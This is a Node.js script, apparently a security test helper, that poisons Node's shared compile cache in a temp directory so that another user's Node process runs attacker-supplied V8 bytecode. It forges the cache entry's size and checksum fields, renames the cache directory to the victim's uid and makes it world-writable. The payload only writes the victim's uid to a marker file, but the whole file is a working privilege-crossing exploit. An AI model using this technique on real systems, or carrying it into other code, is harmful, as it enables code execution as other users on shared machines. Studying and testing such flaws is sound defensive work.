/**
 * What another user would put into `$TMPDIR/node-compile-cache`: an entry for $PROGRAM, under the
 * name that Node of user $VICTIM looks for, with compiled code that writes its user into $MARK.
 * V8 accepts compiled code for every source of the same length.
 */
import { readdirSync, readFileSync, renameSync, chmodSync, writeFileSync } from 'node:fs';
import { enableCompileCache, flushCompileCache } from 'node:module';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import vm from 'node:vm';
import { crc32 } from 'node:zlib';

const { PROGRAM, VICTIM, TMPDIR } = process.env;
const source = readFileSync(PROGRAM);
const evil =
  "process.getBuiltinModule('fs').writeFileSync(process.env.MARK, String(process.getuid()));";
const url = pathToFileURL(PROGRAM).href;
const module = new vm.SourceTextModule(evil.padEnd(source.toString().length), { identifier: url });
const data = module.createCachedData();

enableCompileCache();
process.argv.push('--version');
await import(url);
flushCompileCache();
const cache = path.join(TMPDIR, 'node-compile-cache');
const directory = path.join(cache, readdirSync(cache)[0]);
/** Numbers of four bytes: a mark, size of the source, size of the data, and the sums of both. */
const HEADER = 20;
let forged = 0;
for (const name of readdirSync(directory)) {
  const file = path.join(directory, name);
  const entry = readFileSync(file);
  if (entry.readUInt32LE(12) !== crc32(source)) continue;
  const header = entry.subarray(0, HEADER);
  header.writeUInt32LE(data.length, 8);
  header.writeUInt32LE(crc32(data), 16);
  writeFileSync(file, Buffer.concat([header, data]));
  chmodSync(file, 0o644);
  forged += 1;
}
if (forged !== 1) throw new Error(`${forged} entries of ${directory} are the program's`);
const theirs = directory.replace(/\d+$/, VICTIM);
renameSync(directory, theirs);
chmodSync(theirs, 0o777);
chmodSync(cache, 0o777);
